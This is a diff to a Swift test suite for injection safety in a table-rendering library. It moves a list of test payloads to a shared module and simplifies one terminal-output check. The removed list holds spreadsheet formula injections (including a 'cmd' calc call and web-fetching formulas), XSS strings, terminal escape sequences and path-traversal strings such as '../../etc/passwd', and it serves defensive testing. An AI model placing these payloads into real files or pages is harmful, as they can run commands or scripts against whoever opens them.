@@ -2,32 +2,8 @@ import Foundation
 import Phrases
 import Reporting
 import TableIO
+import TestSupport
 import Testing
-
-/// Names that attack whatever shows them.
-enum Payloads {
-  /// Spreadsheets would evaluate these.
-  static let formulas = [
-    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")",
-    "=IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")",
-    "-2+3+cmd|' /C x'!A0",
-    "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u{3000}=1+1",
-    "\u{A0}@x", "\u{FEFF}=1+1", "\u{200B}=1+1", "+A1", "-A1", "=\u{0}1", "=1+1\";=2+2",
-    "=A1,\"=B1\"",
-  ]
-  static let markup = [
-    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</td></table><b>",
-    "&lt;b&gt;&amp;",
-    "<svg/onload=alert(1)>", "'onmouseover='alert(1)", "]]><x>", "javascript:alert(1)",
-  ]
-  static let terminal = [
-    "\u{1B}[2J", "\u{1B}]0;title\u{7}", "\u{9B}31m", "a\u{8}b", "\u{202E}txt.exe", "a\rb", "\u{7F}",
-  ]
-  static let paths = [
-    "../../etc/passwd", "/etc/passwd", "a/b", "C:\\x", "..", ".", "-o", "nul\u{0}", "%2e%2e%2f",
-  ]
-  static let all = formulas + markup + terminal + paths
-}
 
 @Suite struct InjectionTests {
   private func table(_ text: String) -> ResultTable {
@@ -71,12 +47,9 @@ enum Payloads {
   }
 
   @Test(arguments: Payloads.all)
-  func `a terminal gets no control character but line ends`(payload: String) {
+  func `a terminal gets nothing it obeys or does not show`(payload: String) {
     let lines = table(payload).terminalText().split(separator: "\n")
-    let safe = lines.joined().unicodeScalars.allSatisfy {
-      $0.properties.generalCategory != .control && $0 != "\u{202E}"
-    }
-    #expect(lines.count == 2 && safe)
+    #expect(lines.count == 2 && Payloads.isVisible(lines.joined()))
   }
 
   @Test(arguments: Payloads.all)
